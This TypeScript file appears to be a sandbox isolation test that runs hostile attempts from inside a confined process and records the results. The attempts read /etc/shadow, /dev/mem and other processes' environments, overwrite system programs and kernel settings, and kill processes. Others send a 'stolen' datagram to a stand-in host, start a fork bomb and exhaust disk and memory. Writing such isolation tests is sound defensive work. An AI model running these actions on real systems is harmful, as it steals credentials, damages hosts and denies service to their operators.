import { spawnSync } from 'node:child_process'
import { createSocket } from 'node:dgram'
import { fstatSync, linkSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { connect } from 'node:net'
import { networkInterfaces } from 'node:os'
import { forkBomb, rawCalls, survivor } from './raw.ts'
import type { Attempt, Targets } from './targets.ts'

// What a hostile file would do once it runs code in the process that reads it. Each attempt returns what it got, or null.

type Attempts = [name: string, attempt: () => unknown | Promise<unknown>][]

export async function tryEverything(targets: Targets): Promise<Attempt[]> {
  return [
    ...(await all('files', files(targets))),
    ...(await all('environment', environment(targets))),
    ...(await all('processes', processes(targets))),
    ...(await all('network', network(targets))),
    ...rawCalls(targets),
    ...(await all('resources', resources(targets))),
  ]
}

async function all(kind: Attempt['kind'], attempts: Attempts): Promise<Attempt[]> {
  const done: Attempt[] = []
  for (const [name, attempt] of attempts) {
    const got = await Promise.resolve()
      .then(attempt)
      .catch(() => null)
    done.push({ kind, name, got: got === null || got === undefined ? null : String(got).slice(0, 200) })
  }
  return done
}

function files({ secretFile, dataFolder, serverPid, codeFile }: Targets): Attempts {
  return [
    ['read a secret file', () => readFileSync(secretFile)],
    ['list the data folder', () => readdirSync(dataFolder)],
    ['read it through a symbolic link', () => readThrough(symlinkSync, secretFile)],
    ['read it through a hard link', () => readThrough(linkSync, secretFile)],
    ['read it through the root of another process', () => readFileSync(`/proc/${serverPid}/root${secretFile}`)],
    ['read the shadow file', () => readFileSync('/etc/shadow')],
    ['read the memory of the machine', () => readFileSync('/dev/mem')],
    ['overwrite its own code', () => overwritten(codeFile)],
    ['write to the root folder', () => overwritten('/written')],
    ['overwrite a system program', () => overwritten('/usr/bin/qpdf')],
    ['write a kernel setting', () => overwritten('/proc/sys/kernel/core_pattern')],
  ]
}

function readThrough(link: (target: string, path: string) => void, file: string): Buffer {
  link(file, link.name)
  return readFileSync(link.name)
}

function overwritten(path: string): string {
  writeFileSync(path, 'hostile')
  return path
}

function environment({ serverPid }: Targets): Attempts {
  return [
    [
      'find a secret in its own environment',
      () => Object.keys(process.env).find((name) => /COUNTERSIGN|SECRET/.test(name)),
    ],
    ["read the server's environment", () => readFileSync(`/proc/${serverPid}/environ`)],
    [
      "read the first process's environment",
      () =>
        readFileSync('/proc/1/environ')
          .toString()
          .match(/COUNTERSIGN\w*/)?.[0],
    ],
    ['find inherited descriptors', inheritedSockets],
  ]
}

/** Standard input, output and error are its own; everything else was forgotten by the server. */
function inheritedSockets(): string | null {
  for (let fd = 3; fd < 64; fd++) {
    try {
      const stat = fstatSync(fd)
      if (stat.isSocket() || (stat.isFile() && stat.size > 0)) return `descriptor ${fd}`
    } catch {
      // not open
    }
  }
  return null
}

function processes({ serverPid, otherPid }: Targets): Attempts {
  return [
    ["see the server's process", () => sent(serverPid, 0)],
    ["end the server's process", () => sent(serverPid, 'SIGKILL')],
    ['end another process', () => sent(otherPid, 'SIGKILL')],
    ['stop its parent', () => sent(process.ppid, 'SIGSTOP') && isStopped(process.ppid)],
    ['outlive its task', survivor],
  ]
}

function sent(pid: number, signal: NodeJS.Signals | 0): string {
  process.kill(pid, signal)
  return `sent ${signal} to ${pid}`
}

/** The first process of a namespace ignores signals from inside. */
function isStopped(pid: number): string | null {
  return readFileSync(`/proc/${pid}/stat`, 'latin1').includes(') T ') ? 'stopped' : null
}

function network({ tcpPort, unixSocket }: Targets): Attempts {
  return [
    ['connect to a local port', () => connected({ host: '127.0.0.1', port: tcpPort })],
    ['connect to a Unix socket', () => connected({ path: unixSocket })],
    ['connect to an abstract Unix socket', () => connected({ path: `\0${unixSocket}` })],
    ['send a datagram', sentDatagram],
    ['find a network interface', () => Object.keys(networkInterfaces()).find((name) => name !== 'lo')],
  ]
}

function connected(to: { host: string; port: number } | { path: string }): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = connect(to, () => {
      socket.destroy()
      resolve('connected')
    }).on('error', reject)
  })
}

function sentDatagram(): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = createSocket('udp4').on('error', reject)
    socket.send('stolen', 53, '192.0.2.1', (error) => {
      socket.close()
      return error ? reject(error) : resolve('sent')
    })
  })
}

function resources({ scratchBytes }: Targets): Attempts {
  return [
    ['start 200 processes', forkBomb],
    ['write more than its folder may hold', () => filled(scratchBytes)],
    ['take two gigabytes of memory', () => taken(2 ** 31)],
    ['raise its own limits', raisedLimits],
  ]
}

function filled(limit: number): string | null {
  const piece = Buffer.alloc(256 * 1024)
  let written = 0
  try {
    for (let i = 0; written <= limit; i++, written += piece.length) writeFileSync(`filler-${i}`, piece)
    return `${written} bytes`
  } catch {
    return null
  }
}

function taken(limit: number): string | null {
  const pieces: Buffer[] = []
  try {
    for (let size = 0; size < limit; size += 2 ** 26) pieces.push(Buffer.alloc(2 ** 26))
    return `${pieces.length} pieces`
  } catch {
    return null
  }
}

function raisedLimits(): string | null {
  const { status } = spawnSync('prlimit', [
    '--nproc=4000',
    '--cpu=4000',
    '--data=unlimited',
    '--',
    process.execPath,
    '-v',
  ])
  return status === 0 ? 'raised' : null
}
